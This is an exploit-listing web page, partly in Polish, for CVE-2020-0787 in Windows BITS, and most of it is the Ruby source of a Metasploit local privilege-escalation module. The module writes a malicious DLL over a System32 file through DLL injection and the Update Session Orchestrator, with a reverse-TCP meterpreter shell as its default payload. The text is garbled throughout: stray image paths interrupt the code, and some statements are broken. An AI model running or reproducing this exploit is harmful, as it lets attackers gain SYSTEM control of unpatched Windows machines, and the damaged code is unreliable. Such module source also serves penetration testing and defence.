Background Intelligent Transfer Service Privilege Escalation

Credit: itm4n
Risk: Medium
Local: No
Remote: Yes
CWE: CWE-264

Ogólna skala CVSS: 7.2/10
Znaczenie: 10/10
Łatwość wykorzystania: 3.9/10
Wymagany dostęp: Lokalny
Złożoność ataku: NiskaAutoryzacja: Nie wymagana
Wpływ na poufność:Pełny
Wpływ na integralność: Pełny
Wpływ nadostępność: Pełny

## # This module requires Metasploit: # Current source: ## class MetasploitModule < Msf::Exploit::Local Rank = ExcellentRanking include Msf::Post::Windows::Priv include Msf::Exploit::EXE # Needed for generate_payload_dll include Msf::Post::Windows::FileSystem include Msf::Post::Windows::ReflectiveDLLInjection include Msf::Exploit::FileDropper include Msf::Post::File include Msf::Exploit::Remote::AutoCheck def initialize(info = {}) super( update_info( info, 'Name' => 'Background Intelligent Transfer Service Arbitrary File Move Privilege Elevation Vulnerability', 'Description' => %q{ This module exploits CVE-2020-0787, an arbitrary file move vulnerability in outdated versions of the Background Intelligent Transfer Service (BITS), to overwrite C:\Windows\System32\WindowsCoreDeviceInfo.dll with a maliciousDLL containing the attacker's payload. To achieve code execution as the SYSTEM user, the Update Session Orchestrator service is then started, which will result in the malicious WindowsCoreDeviceInfo.dll being run with SYSTEM privileges due to a DLL hijacking issue within the Update Session Orchestrator Service. Note that presently this module only works on Windows 10 and Windows Server 2016 and later as the Update Session Orchestrator Service was only introduced in Windows 10. Note that only Windows 10 has been tested, so your mileage may vary on Windows Server 2016 and later. }, 'License' => MSF_LICENSE, 'Author' => [ 'itm4n', # PoC 'gwillcox-r7' # msf module ], 'Platform' => ['win'], 'SessionTypes' => ['meterpreter'], 'Privileged' => true, 'Arch' => [ARCH_X86,ARCH_X64], 'Targets' => [ [ 'Windows DLL Dropper', { 'Arch' => [ARCH_X86, ARCH_X64], 'Type' => :windows_dropper } ], ], 'DefaultTarget' => 0, 'DisclosureDate' => '2020-03-10', 'References' => [ ['CVE', '2020-0787'], ['URL', ''], ['URL', ''], ['URL', ''], ['URL', ''], ['URL', ''], ['URL', ''], ], 'Notes' => { 'SideEffects' => [ ARTIFACTS_ON_DISK ], 'Reliability' => [ REPEATABLE_SESSION ], 'Stability' => [ CRASH_SAFE ] }, 'DefaultOptions' => { 'EXITFUNC' => 'thread', 'PAYLOAD' => 'windows/x64/meterpreter/reverse_tcp', 'WfsDelay' => 900 } ) ) register_options(['OVERWRITE_DLL', [true, 'Overwrite WindowsCoreDeviceInfo.dll if it exists (false by default).', false]),'JOB_WAIT_TIME', [true, 'Time to wait for the BITS job to complete before starting the USO service to execute the uploaded payload, in seconds', 20]) ]) end def target_not_presently_supported print_warning('This target is not presently supported by this exploit. Support may be added in the future!') print_warning('Attempts to exploit this target with this module WILL NOT WORK!') end def check sysinfo_value = sysinfo['OS'] if sysinfo_value !~ /windows/i # Non-Windows systems are definitely not affected. return CheckCode::Safe('Target is not a Windows system, so it is not affected by this vulnerability!') end # XXX Using session.shell_command_token over cmd_exec() here as @wvu-r7 noticed cmd_exec() was broken under some situations. build_num_raw = session.shell_command_token('cmd.exe /c ver') build_num =build_num_raw.match(/\d+\.\d+\.\d+\.\d+/) if build_num.nil? print_error("Couldn't retrieve the target's build number!") else build_num = build_num_raw.match(/\d+\.\d+\.\d+\.\d+/)[0] print_status("Target's build number: #{build_num}") end # see unless sysinfo_value =~ /(7|8|8\.1|10|2008|2012|2016|2019|1803|1903)/ return CheckCode::Safe('Target is not running a vulnerable version of Windows!') end build_num_gemversion = # Build numbers taken from if (build_num_gemversion >='10.0.18363.0')) && (build_num_gemversion <'10.0.18363.719')) # Windows 10 v1909 return CheckCode::Appears('Vulnerable Windows 10 v1909 build detected!') elsif (build_num_gemversion >='10.0.18362.0')) && (build_num_gemversion <'10.0.18362.719')) # Windows 10 v1903 return CheckCode::Appears('Vulnerable Windows 10 v1903 build detected!') elsif (build_num_gemversion >='10.0.17763.0')) && (build_num_gemversion <'10.0.17763.1098')) # Windows 10 v1809 return CheckCode::Appears('Vulnerable Windows 10 v1809 build detected!') elsif (build_num_gemversion >='10.0.17134.0')) && (build_num_gemversion <'10.0.17134.1365')) # Windows 10 v1803 return CheckCode::Appears('Vulnerable Windows 10 v1803 build detected!') elsif (build_num_gemversion >='10.0.16299.0')) && (build_num_gemversion <'10.0.16299.1747')) # Windows 10v1709 return CheckCode::Appears('Vulnerable Windows 10 v1709 build detected!') elsif (build_num_gemversion >='10.0.15063.0')) && (build_num_gemversion <'10.0.15063.2313')) # Windows 10 v1703 return CheckCode::Appears('Vulnerable Windows 10 v1703 build detected!') elsif (build_num_gemversion >='10.0.14393.0')) && (build_num_gemversion <'10.0.14393.3564')) # Windows 10 v1607 return CheckCode::Appears('Vulnerable Windows 10 v1607 build detected!') elsif (build_num_gemversion >='10.0.10586.0')) && (build_num_gemversion <'10.0.10586.9999999')) # Windows 10 v1511 return CheckCode::Appears('Vulnerable Windows 10 v1511 build detected!') elsif (build_num_gemversion >='10.0.10240.0')) && (build_num_gemversion <'10.0.10240.18519')) # Windows 10 v1507 return CheckCode::Appears('Vulnerable Windows 10 v1507 build detected!') elsif (build_num_gemversion >='6.3.9600.0')) && (build_num_gemversion <'6.3.9600.19665')) # Windows 8.1/Windows Server 2012 R2 target_not_presently_supported return CheckCode::Appears('Vulnerable Windows 8.1/Windows Server 2012 R2 build detected!') elsif (build_num_gemversion >='6.2.9200.0')) && (build_num_gemversion <'6.2.9200.23009')) # Windows 8/Windows Server 2012 target_not_presently_supportedreturn CheckCode::AppearsAppears('Vulnerable Windows 8/Windows Server 2012 build detected!') elsif (build_num_gemversion >='6.1.7600.0')) && (build_num_gemversion <'6.1.7601.24549')) # Windows 7/Windows Server 2008 R2 target_not_presently_supported return CheckCode::Appears('Vulnerable Windows 7/Windows Server 2008 R2 build detected!') elsif (build_num_gemversion >='6.0.6001.0')) && (build_num_gemversion <'6.0.6003.20749')) # Windows Server 2008/Windows Server 2008 SP2 target_not_presently_supported return CheckCode::Appears('Windows Server 2008/Windows Server 2008 SP2 build detected!') else return CheckCode::Safe('The build number of the target machine does not appear to be a vulnerable version!') end end def check_target_is_running_supported_windows_version if sysinfo['OS'].match('Windows').nil? fail_with(Failure::NotVulnerable, 'Target is not running Windows!') elsif sysinfo['OS'].match('Windows 10').nil? && sysinfo['OS'].match('Windows Server 2016').nil? && sysinfo['OS'].match('Windows Server 2019').nil? fail_with(Failure::BadConfig, 'Target is running Windows, its not a version this module supports! Bailing...') end end def check_target_and_payload_match_and_supported(client_arch) if (client_arch != ARCH_X64) && (client_arch != ARCH_X86) fail_with(Failure::BadConfig, 'This exploit currently only supports x86 and x64 targets!') end payload_arch = payload.arch.first # TODO: Add missing documentation for payload.arch, @wvu used this first but it is not documented anywhere. if (payload_arch != ARCH_X64) && (payload_arch != ARCH_X86) fail_with(Failure::BadConfig, "Unsupported payload architecture (#{payload_arch})") # Unsupported architecture, so return an error. end if ((client_arch == ARCH_X64)&& (payload_arch != ARCH_X64)) || ((client_arch == ARCH_X86) && (payload_arch != ARCH_X86)) fail_with(Failure::BadConfig, "Payload architecture (#{payload_arch}) doesn't match the architecture of the target (#{client_arch})!") end end def check_windowscoredeviceinfo_dll_exists_on_target # Taken from bwatters-r7's cve-2020-0688_service_tracing.rb code. # # We are going to overwrite the WindowsCoreDeviceInfo.dll DLL as part of our exploit. # The second part of this exploit will trigger a Update Session to be created so that this DLL # is loaded, which will result in arbitrary code execution as SYSTEM. # # To prevent any errors, we will first check that this file doesn't exist and ask the user if they are sure # that they want to overwrite the file. win_dir = session.sys.config.getenv('windir') normal_target_payload_pathname = "#{win_dir}\\System32\\WindowsCoreDeviceInfo.dll" wow64_target_payload_pathname = "#{win_dir}\\Sysnative\\WindowsCoreDeviceInfo.dll" wow64_existing_file = "#{win_dir}\\Sysnative\\win32k.sys" if file?(wow64_existing_file) if file?(wow64_target_payload_pathname) print_warning("#{wow64_target_payload_pathname} already exists") print_warning('If it is in use, the overwrite will fail') unless datastore['OVERWRITE_DLL'] print_error('Change OVERWRITE_DLL option to true if you would like to proceed.') fail_with(Failure::BadConfig, "#{wow64_target_payload_pathname} already exists and OVERWRITE_DLL option is false") end end target_payload_pathname = wow64_target_payload_pathname elsif file?(normal_target_payload_pathname) print_warning("#{normal_target_payload_pathname} already exists") print_warning('If it is in use, the overwrite will fail') unless datastore['OVERWRITE_DLL'] print_error('Change OVERWRITE_DLL option to true if you would like to proceed.')fail_with(Failure::BadConfig, "#{normal_target_payload_pathname} already exists and OVERWRITE_DLL option is false") end target_payload_pathname = normal_target_payload_pathname end target_payload_pathname end def launch_background_injectable_notepad print_status('Launching notepad to host the exploit...') notepad_process =client.sys.process.execute('notepad.exe', nil, 'Hidden' => true) process =, PROCESS_ALL_ACCESS) print_good("Process #{} launched.") process rescue Rex::Post::Meterpreter::RequestError # Sandboxes could not allow to create a new process # stdapi_sys_process_execute: Operation failed: Access is denied. print_error('Operation failed. Trying to elevate the current process...') process = process end def exploit # NOTE: Automatic check is implemented by the AutoCheck mixin super # Step 1: Check target environment is correct. print_status('Step #1: Checking target environment...') if is_system? fail_with(Failure::None, 'Session is already elevated') end client_arch = sysinfo['Architecture'] check_target_is_running_supported_windows_versioncheck_target_and_payload_match_and_supported(client_arch) check_windowscoredeviceinfo_dll_exists_on_target # Step 2: Generate the malicious DLL and upload it to a temp location. print_status('Step #2: Generating the malicious DLL...') path = ::File.join(Msf::Config.data_directory, 'exploits', 'CVE-2020-0787') datastore['EXE::Path'] = path if client_arch =~ /x86/i datastore['EXE::Template'] = ::File.join(path,'template_x86_windows.dll') library_path = ::File.join(Msf::Config.data_directory, 'exploits', 'CVE-2020-0787', 'CVE-2020-0787.x86.dll') library_path = ::File.expand_path(library_path) elsif client_arch =~ /x64/i datastore['EXE::Template'] = ::File.join(path, 'template_x64_windows.dll') library_path = ::File.join(Msf::Config.data_directory, 'exploits', 'CVE-2020-0787', 'CVE-2020-0787.x64.dll') library_path = ::File.expand_path(library_path) end payload_dll = generate_payload_dll print_status("Payload DLL is #{payload_dll.length} bytes long") temp_directory = session.sys.config.getenv('%TEMP%') malicious_dll_location = "#{temp_directory}\\" + Rex::Text.rand_text_alpha(6..13) + '.dll' write_file(malicious_dll_location, payload_dll)register_file_for_cleanup(malicious_dll_location) # Step 3: Load the main DLL that will trigger the exploit and conduct the arbitrary file copy. print_status('Step #3: Loading the exploit DLL to run the main exploit...') process = launch_background_injectable_notepad print_status("Injecting DLL into #{}...") exploit_mem, offset = inject_dll_into_process(process, library_path) dll_info_parameter = malicious_dll_location.to_s payload_mem = inject_into_process(process,dll_info_parameter) # invoke the exploit, passing in the address of the payload that # we want invoked on successful exploitation. print_status('DLL injected. Executing injected DLL...') process.thread.create(exploit_mem + offset, payload_mem) print_status("Sleeping for #{datastore['JOB_WAIT_TIME']} seconds to allow the exploit to run...") sleep datastore['JOB_WAIT_TIME'] register_file_for_cleanup('C:\\Windows\\System32\\WindowsCoreDeviceInfo.dll') # Register this file for cleanup so that if we fail, then the file is cleaned up. # Normally wecan't delete this file though asthere will be a SYSTEM service that has a handle to this file. print_status("Starting the interactive scan job...") # Step 4: Execute `usoclient StartInteractiveScan` to trigger the payload # XXX Using session.shell_command_token over cmd_exec() here as @wvu-r7 noticed cmd_exec() was broken under somesituations. session.shell_command_token('usoclient StartInteractiveScan') print_status("Enjoy the shell!") end end

Vote for this issue:


Thanks for you vote!


Thanks for you comment!
Your message is in quarantine 48 hours.

Comment it here.

(*) - required fields.
{{ x.nick }} | Date: {{ x.ux * 1000 | date:'yyyy-MM-dd' }} {{ x.ux * 1000 | date:'HH:mm' }} CET+1
{{ x.comment }}Copyright 2020,


Back to Top